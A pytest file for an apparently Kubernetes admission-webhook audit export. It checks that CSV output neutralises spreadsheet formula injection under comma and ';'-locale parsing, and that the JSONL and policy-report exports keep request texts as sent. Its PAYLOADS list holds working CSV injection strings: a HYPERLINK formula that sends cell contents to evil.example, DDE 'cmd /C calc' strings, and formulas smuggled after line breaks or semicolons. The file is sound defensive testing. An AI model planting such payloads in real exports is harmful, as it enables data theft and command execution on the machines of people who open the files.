"""CSV export against formula injection: every text cell taken from the request (user, groups,
namespace, name, kind, uid...) is read by a spreadsheet as text, however it is split: by a
comma-separated reader, or by one in a locale whose list separator is ``;``, which ignores a quote
opened mid-field and so also ends a row at a line break inside a cell."""

from __future__ import annotations

import csv
import io
import re
from contextlib import closing
from pathlib import Path
from typing import Any

import orjson
import pytest

from webhook.admission import request_for_manifest, review
from webhook.audit import open_trail
from webhook.audit.base import Filters
from webhook.audit.export import CSV_COLUMNS, _csv_row, export
from webhook.config import ClusterConfig
from webhook.policies import PolicySet

from .conftest import OpenStore
from .helpers import deployment

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "ok\n=1+1;x",  # a line break inside a cell: a row of its own in a ';' locale
    "ok\r\n@SUM(1);x",
    "ok\r-1+1",
    'ok\n"=1+1',  # a quote opening a field is stripped there
    "ok;=1+1",
]
NUMBERS = ("seq", "latencyMs")  # written by railguard: kept as numbers, a negative one too
AS_SENT = ("group", "version", "resource", "subResource", "namespace", "name", "username", "userUid")
SHOWN = re.compile(r"(^|[;\r\n])'")  # the ' the export adds, where it adds it


def odd_request(payload: str, i: int, policies: PolicySet) -> Any:
    """A review whose request texts are all ``payload`` (posted by something else than
    kube-apiserver, or a user name from an authenticator): odd ones are reviewed (a Deployment
    with findings), even ones (an unknown kind) are not."""
    obj = deployment(payload, "shop")
    request: dict[str, Any] = dict(request_for_manifest(obj, uid=f"{payload}-{i}", username=payload))
    if i % 2:
        request["userInfo"] = {"username": payload, "uid": payload, "groups": ["dev", payload]}
        request["name"] = request["namespace"] = payload
        return review(request, policies, ClusterConfig(), mode="full")  # type: ignore[arg-type]
    request["userInfo"] = {"username": payload, "uid": payload, "groups": ["dev", payload]}
    request["kind"] = {"group": payload, "version": payload, "kind": payload}
    request["resource"] = {"group": payload, "version": payload, "resource": payload}
    request["subResource"] = payload
    request["namespace"] = payload
    request["name"] = payload
    return review(request, policies, ClusterConfig())  # type: ignore[arg-type]


def exported(url: str, fmt: str) -> bytes:
    with closing(open_trail(url)) as trail:
        out = io.BytesIO()
        export(trail, Filters(), fmt, out)
        return out.getvalue()


def semicolon_locale_fields(text: str) -> list[str]:
    """The fields a spreadsheet whose list separator is ``;`` starts: after each line break and
    each ``;`` (a quote counts only at a field's start: a cell quoted after a comma is no field
    there), a quote opening a field stripped."""
    return [field[1:] if field.startswith('"') else field for line in re.split(r"\r\n|\r|\n", text) for field in line.split(";")]


def test_no_csv_cell_or_piece_starts_a_formula(tmp_path: Path, make_store: OpenStore, policies: PolicySet) -> None:
    url = f"sqlite:{tmp_path / 'audit.db'}"
    store = make_store(url)
    for i, payload in enumerate(PAYLOADS):
        store.record(odd_request(payload, i, policies), -0.5 if i == 0 else 1.25)
    store.close()
    text = exported(url, "csv").decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(PAYLOADS) + 1
    # comma-separated: no cell starts a formula, and no piece of one after a ';' or a line break
    running = [
        (column, cell)
        for row in rows[1:]
        for column, cell in zip(CSV_COLUMNS, row)
        if column not in NUMBERS
        for piece in [cell, *re.split(r"[;\r\n]", cell)[1:]]
        if piece.startswith(DANGEROUS)
    ]
    assert running == [], f"cells a spreadsheet would run: {running}"
    # ';' locale: no field starts a formula
    fields = [field for field in semicolon_locale_fields(text) if field.startswith(DANGEROUS)]
    assert fields == [], f"fields a ';'-locale spreadsheet would run: {fields}"
    # the request's texts are all exported, changed only by the ' put before a piece that needs it
    for i, (row, payload) in enumerate(zip(rows[1:], PAYLOADS)):
        cells = {column: SHOWN.sub(r"\1", cell) for column, cell in zip(CSV_COLUMNS, row)}
        sent = ("namespace", "name", "username", "userUid") if i % 2 else AS_SENT
        assert [cells[column] for column in sent] == [payload] * len(sent), i
        assert cells["uid"] == f"{payload}-{i}" and cells["groups"] == f"dev;{payload}"
        assert cells["findings"] if i % 2 else not cells["findings"]
    # numbers railguard writes are kept as numbers, a negative one included (never a formula)
    assert [row[CSV_COLUMNS.index("seq")] for row in rows[1:]] == [str(i) for i in range(1, len(PAYLOADS) + 1)]
    assert [row[CSV_COLUMNS.index("latencyMs")] for row in rows[1:]] == ["-0.5"] + ["1.25"] * (len(PAYLOADS) - 1)
    # the other formats keep the request's texts as sent
    records = [orjson.loads(line) for line in exported(url, "jsonl").splitlines()]
    assert [(r["name"], r["user"]["username"], r["user"]["groups"]) for r in records] == [(p, p, ["dev", p]) for p in PAYLOADS]
    reports = exported(url, "policyreport").decode()
    results = [r for doc in reports.split("---\n") if doc.strip() for r in orjson.loads(doc)["results"]]
    assert {r["properties"]["user"] for r in results} == set(PAYLOADS[1::2])  # reviewed ones: results


def test_a_list_or_object_where_a_text_belongs_is_unreadable_not_written_unchecked() -> None:
    """A record edited and re-hashed may hold a list where a name belongs: csv would write it as
    Python shows it (``['a;=1+1']``), its pieces never checked; the record is unreadable instead
    (``_csv_chunk`` turns ``TypeError`` into ``DamagedTrail``), as a wrongly typed field is."""
    for odd in (["a;=1+1"], {"x": "y;=1+1"}):
        with pytest.raises(TypeError):
            _csv_row({"name": odd}, "h")
    row = dict(zip(CSV_COLUMNS, _csv_row({"seq": -3, "latencyMs": -0.5, "dryRun": True, "name": None}, "h")))
    assert (row["seq"], row["latencyMs"], row["name"]) == (-3, -0.5, None)  # numbers and nothing are kept
